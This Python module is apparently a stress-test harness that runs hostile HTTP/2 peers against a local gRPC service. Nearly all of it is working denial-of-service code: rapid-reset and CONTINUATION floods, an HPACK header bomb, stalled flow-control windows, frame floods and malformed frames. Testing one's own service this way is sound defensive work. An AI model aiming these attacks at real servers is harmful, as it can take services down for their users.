"""The attacks of hostile peers. Each attack is a generator that is given one connection and yields how much it sent since the
last time; the campaign runs many of them side by side. One that returns gets a new connection, and the next turn."""

import functools
import ssl

from . import frames

GET_DOSSIER = "/relais.v1.DossierService/GetDossier"
LIST_DOSSIERS = "/relais.v1.DossierService/ListDossiers"
IMPORT = "/relais.v1.ImportService/Import"
HEALTH = "/grpc.health.v1.Health/Check"
# Their messages are small enough to be written by hand: `name` is field 1, `page_size` field 2.
DOSSIER_1 = frames.message(b"\x0a\x0adossiers/1")
FULL_PAGE = frames.message(b"\x10\xf4\x03")
STREAMS = 100  # What both doors allow on one connection.
BATCH = 50


def right_fields(peer, path=GET_DOSSIER):
    return [(":method", "POST"), (":scheme", peer.door.scheme), (":path", path), (":authority", "127.0.0.1"),
            ("te", "trailers"), ("content-type", "application/grpc")]


def head(peer, path=GET_DOSSIER, token="", more=()):
    fields = right_fields(peer, path)
    if token:
        fields.append(("authorization", f"Bearer {token}"))
    return frames.block([*fields, *more])


def hold(peer, reads=True):
    """Keeps streams and connection open."""
    while peer.alive:
        if reads:
            peer.drain()
        yield 0


def await_end(peer):
    """Until the other side has ended a stream or the connection; not for long, for some of it is never answered."""
    for _ in range(100):
        peer.drain()
        if not peer.alive or peer.ended:
            return
        yield 0


def half_sent_messages(peer, _load):
    for _ in range(STREAMS):
        stream = peer.next_stream()
        peer.send(frames.headers(stream, head(peer)) + frames.data(stream, frames.message(b"\x0a", announced=1000)))
        yield 1
    yield from hold(peer)


def nearly_whole_messages(peer, load, path=GET_DOSSIER):
    """A mebibyte each, but its last byte: what one call can make the service hold, in as many calls as go; every other
    connection keeps to what nginx lets through for a call."""
    size = (1 << 20) - 100 if load.turn % 2 else (1 << 18) - 100
    body = memoryview(frames.message(b"\x0a" * (size - 1), announced=size))
    left = {}
    for _ in range(STREAMS):
        stream = peer.next_stream()
        peer.send(frames.headers(stream, head(peer, path)))
        left[stream] = body
        yield 1
    while peer.alive:
        for stream, rest in left.items():
            left[stream] = rest[peer.send_data(stream, rest):]
        peer.drain()
        yield 0


def nearly_whole_imports(peer, load):
    yield from nearly_whole_messages(peer, load, IMPORT)


def endless_data(peer, _load):
    """A whole message, and then empty frames: the end of the stream never comes."""
    streams = [peer.next_stream() for _ in range(20)]
    for stream in streams:
        peer.send(frames.headers(stream, head(peer)) + frames.data(stream, DOSSIER_1))
        yield 1
    while peer.alive:
        for stream in streams:
            peer.send(frames.data(stream, b"") * BATCH)
            yield BATCH


def windows_never_opened(peer, load):
    peer.send(frames.initial_window(0))
    for _ in range(STREAMS):
        stream = peer.next_stream()
        peer.send(frames.headers(stream, head(peer, LIST_DOSSIERS, load.token)) + frames.data(stream, FULL_PAGE, True))
        yield 1
    yield from hold(peer)


def answers_never_read(peer, load):
    """Opens the windows fully, and never reads the socket."""
    peer.send(frames.initial_window(frames.LARGEST_WINDOW) + frames.window_update(0, frames.LARGEST_WINDOW - 65535))
    while peer.alive:
        stream = peer.next_stream()
        call = frames.headers(stream, head(peer, LIST_DOSSIERS, load.token)) + frames.data(stream, FULL_PAGE, True)
        if not peer.send(call, seconds=0.5, reads=False):
            break
        yield 1
        if stream > 2 * STREAMS:
            break
    yield from hold(peer, reads=False)


def silence(peer, _load):
    yield 1
    yield from hold(peer)


@functools.lru_cache(maxsize=None)
def client_hello():
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_a_handshake(peer, _load):
    """A whole ClientHello, then nothing; to a door without TLS it is garbage."""
    peer.send(client_hello())
    yield 1
    yield from hold(peer)


def rapid_resets(peer, _load):
    request = head(peer)
    while peer.alive:
        streams = [peer.next_stream() for _ in range(BATCH)]
        peer.send(b"".join(frames.headers(stream, request) + frames.reset(stream) for stream in streams))
        yield BATCH


def rapid_resets_of_whole_calls(peer, _load):
    """The call is complete, so that its handler begins, before it is reset."""
    request = head(peer)
    while peer.alive:
        streams = [peer.next_stream() for _ in range(BATCH)]
        peer.send(b"".join(
            frames.headers(stream, request) + frames.data(stream, DOSSIER_1, True) + frames.reset(stream)
            for stream in streams))
        yield BATCH


def in_pieces(stream, header_block):
    """A header block of any size: HEADERS, and as many CONTINUATION as it takes."""
    pieces = [header_block[start:start + frames.FRAME_BYTES] for start in range(0, len(header_block), frames.FRAME_BYTES)]
    out = frames.headers(stream, pieces[0], end_stream=False, end_headers=len(pieces) == 1)
    for index, piece in enumerate(pieces[1:], 2):
        out += frames.frame(frames.CONTINUATION, frames.END_HEADERS if index == len(pieces) else 0, stream, piece)
    return out


def oversized_metadata(peer, load):
    sizes = (
        [("x-large", "x" * 9000)],
        [("x-large", "x" * 15000)],
        [("x-large", "x" * 60000)],
        [(f"x-{number}", "y") for number in range(400)],
        [(f"x-{number}", "y") for number in range(5000)],
        [("x-large-bin", "!" * 9000)],
    )
    stream = peer.next_stream()
    large = head(peer, more=sizes[load.turn % len(sizes)])
    peer.send(in_pieces(stream, large) + frames.data(stream, DOSSIER_1, True))
    yield 1
    yield from await_end(peer)


def continuation_flood(peer, _load):
    """A header block that never ends."""
    stream = peer.next_stream()
    peer.send(frames.headers(stream, head(peer), end_headers=False))
    piece = frames.block([(f"x-{number}", "z" * 100) for number in range(100)])
    while peer.alive:
        peer.send(frames.frame(frames.CONTINUATION, 0, stream, piece))
        yield 1


def empty_continuation_flood(peer, _load):
    stream = peer.next_stream()
    peer.send(frames.headers(stream, head(peer), end_headers=False))
    while peer.alive:
        peer.send(frames.frame(frames.CONTINUATION, 0, stream) * BATCH)
        yield BATCH


def header_bomb(peer, _load):
    """One field of almost 4 KiB in the table, then a byte for each time that it is meant: 16 KiB become 60 MiB."""
    stream = peer.next_stream()
    peer.send(frames.headers(stream, head(peer) + frames.field("x-bomb", "b" * 3900, indexed=True)))
    yield 1
    newest = frames.integer(62, 7, 0x80)
    while peer.alive:
        stream = peer.next_stream()
        peer.send(frames.headers(stream, head(peer) + newest * 15000))
        yield 1


def garbage_preface(peer, load):
    starts = (b"GET / HTTP/1.1\r\nHost: relais\r\n\r\n", bytes(range(256)) * 64, b"\x00" * 100000, b"\x16\x03\x01" * 500,
              frames.PREFACE[:-1] + b"X", frames.PREFACE + b"\xff" * 1000, frames.PREFACE + frames.data(1, b"x"),
              frames.PREFACE + frames.settings() + frames.PREFACE)
    peer.send(starts[load.turn % len(starts)])
    yield 1
    yield from await_end(peer)


def flood(*made):
    """An attack that sends the same frames over and over, and reads none of the answers."""
    batch = b"".join(made) * BATCH

    def script(peer, _load):
        while peer.alive and peer.send(batch, seconds=0.5, reads=False):
            yield BATCH * len(made)
        yield from hold(peer, reads=False)

    return script


ping_flood = flood(frames.frame(frames.PING, 0, 0, b"relaisdd"))
settings_flood = flood(frames.initial_window(1000), frames.initial_window(60000))
window_flood = flood(frames.window_update(0, 1))
priority_flood = flood(frames.frame(frames.PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10"))
unknown_flood = flood(frames.frame(0xEE, 0xFF, 0, b"?" * 1000))


def goaway_and_on(peer, _load):
    """Sends GOAWAY, stays, and continues to call."""
    while peer.alive:
        stream = peer.next_stream()
        peer.send(frames.goaway() + frames.headers(stream, head(peer)) + frames.data(stream, DOSSIER_1, True))
        yield 1


def broken_frames(peer, load):
    """Each invalid in a different way; the last ones are data after END_STREAM."""
    stream = peer.next_stream()
    request = frames.headers(stream, head(peer))
    whole = request + frames.data(stream, DOSSIER_1, True)
    long = b"\x00" * (1 << 20)
    kinds = (
        frames.frame(frames.DATA, 0, stream, long),
        request + frames.frame(frames.DATA, 0, stream, long),
        request + frames.frame(frames.DATA, 0, stream, b"x" * 100, length=(1 << 24) - 1),
        frames.frame(frames.HEADERS, frames.END_HEADERS, stream, long),
        frames.frame(frames.HEADERS, frames.END_HEADERS, stream, b"\xff" * 1000),
        frames.frame(frames.HEADERS, frames.END_HEADERS | 0x8 | 0x20, stream, b"\xff"),
        frames.frame(frames.HEADERS, frames.END_HEADERS, 0, head(peer)),
        frames.frame(frames.HEADERS, frames.END_HEADERS, 2, head(peer)),
        frames.frame(frames.CONTINUATION, frames.END_HEADERS, stream, head(peer)),
        frames.frame(frames.PUSH_PROMISE, frames.END_HEADERS, stream, b"\x00\x00\x00\x02" + head(peer)),
        frames.frame(frames.SETTINGS, 0, 0, b"\x00" * 7),
        frames.frame(frames.SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff"),
        frames.frame(frames.SETTINGS, frames.ACK, 0, b"\x00" * 6),
        frames.frame(frames.SETTINGS, 0, 1, b""),
        frames.frame(frames.PING, 0, 0, b"\x00" * 7),
        frames.frame(frames.RST_STREAM, 0, stream, b"\x00"),
        frames.reset(stream + 100),
        frames.reset(0),
        frames.window_update(0, 0),
        frames.window_update(0, frames.LARGEST_WINDOW) * 2,
        request + frames.window_update(stream, frames.LARGEST_WINDOW) * 2,
        frames.frame(frames.GOAWAY, 0, 0, b"\x00"),
        frames.goaway(frames.LARGEST_WINDOW, 0xFFFFFFFF) * 1000,
        request * 2,
        whole + frames.data(stream, DOSSIER_1),
        whole + frames.headers(stream, head(peer)),
        (whole + frames.data(stream, DOSSIER_1)) * 50,
    )
    peer.send(kinds[load.turn % len(kinds)], seconds=0.5)
    yield 1
    yield from await_end(peer)
